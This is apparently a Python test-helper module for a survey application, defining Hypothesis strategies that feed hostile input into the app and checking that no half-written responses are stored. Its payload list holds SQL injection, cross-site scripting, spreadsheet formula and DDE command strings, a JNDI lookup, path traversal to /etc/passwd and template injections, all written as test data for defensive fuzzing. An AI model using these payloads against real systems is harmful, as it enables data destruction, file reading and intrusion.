"""Hypothesis strategies for hostile input and the checks every hostile test makes after each input."""

import json
import re
from collections import Counter

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from surveys.models import Answer, Response
from surveys.tallies import tallies_differences

# Hand-picked payloads that have broken similar systems: SQL, markup, spreadsheet formulas, template and
# format strings, path tricks, direction overrides, NUL bytes, lone surrogates, emoji and very long text.
NASTY = [
    "'; DROP TABLE surveys_response; --", "1 OR 1=1", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>",
    '=HYPERLINK("http://x","klik")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
    "{{ 7*7 }}", "{% debug %}", "%s%s%n", "%(secret)s", "${jndi:ldap://x/a}", "../../../../etc/passwd",
    "\u202etxt.exe", "\u200f\u0627\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645", "שלום",
    "😀" * 50, "👩‍👩‍👧‍👦🇮🇩", "\x00", "a\x00b", "\ud800", "\udfff x \ud83d", "\ufeff", "\u0000\u0001\u001f",
    " " * 300, "\n" * 50, "x" * 10_000, "é" * 10_000, "٣", "²", "١٢٣", "1e309", "NaN", "-0", "0x10",
    "9" * 400, "4.0", " 4 ", "true", "null", "[]", "{}", "L\x00", "P ", "SMA\u200b",
]

LONE_SURROGATE = re.compile("[\ud800-\udfff]")
# Lone surrogates are not in Hypothesis' default alphabet; json.dumps writes them as \udXXX escapes.
SURROGATES = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)
TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=60),
    st.text(alphabet=st.one_of(st.characters(), SURROGATES), max_size=60),
    st.text(min_size=2001, max_size=10_000, alphabet=st.characters(codec="utf-8")).filter(str.strip),
)
SCALAR = st.one_of(
    st.none(), st.booleans(), st.integers(), st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True), TEXT,
)
JSON_VALUE = st.recursive(SCALAR, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(TEXT, inner, max_size=4)), max_leaves=12)


def json_bytes(value) -> bytes:
    """JSON as a browser's JSON.stringify writes it: UTF-8 with lone surrogates as \\udXXX escapes; and, as a
    careless client would, NaN and Infinity too."""
    text = json.dumps(value, ensure_ascii=False)
    return LONE_SURROGATE.sub(lambda match: f"\\u{ord(match[0]):04x}", text).encode()


def deeply_nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


RAW_BODY = st.one_of(
    st.binary(max_size=300),
    st.sampled_from([b"", b"{", b"{oops", b"null", b"[]", b"42", b'"text"', b"\xff\xfe{}", b'{"key": "\\ud800"}',
                     b'{"a": 1} trailing', b"\x00" * 20, deeply_nested(8_000)]),
    st.text(max_size=200).map(str.encode),
)


class Tried:
    """Counts the inputs each hostile test tried, for the closing figures."""

    def __init__(self, name: str):
        self.name, self.counts, self.outcomes = name, Counter(), Counter()

    def add(self, test: str):
        self.counts[test] += 1

    def outcome(self, outcome: object):
        self.outcomes[str(outcome)] += 1

    def report(self) -> str:
        parts = ", ".join(f"{test} {n}" for test, n in sorted(self.counts.items()))
        outcomes = ", ".join(f"{outcome} {n}" for outcome, n in sorted(self.outcomes.items()))
        return (f"\n{self.name}: {sum(self.counts.values())} hostile inputs tried ({parts})"
                + (f"; answers: {outcomes}" if outcomes else ""))


def stored_counts() -> tuple[int, int]:
    return Response.objects.count(), Answer.objects.count()


def assert_nothing_half_written(before: tuple[int, int], *, stored: int):
    """Exactly `stored` new responses (with answers when there are any) and tallies equal to a recount."""
    responses, answers = stored_counts()
    assert responses - before[0] == stored
    if not stored:
        assert answers == before[1]
    assert tallies_differences() == []


def hostile_settings(max_examples: int):
    """Bounded runs for the hostile-input tests, so the suite stays quick; fixtures are reset by the tests."""
    return settings(max_examples=max_examples, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
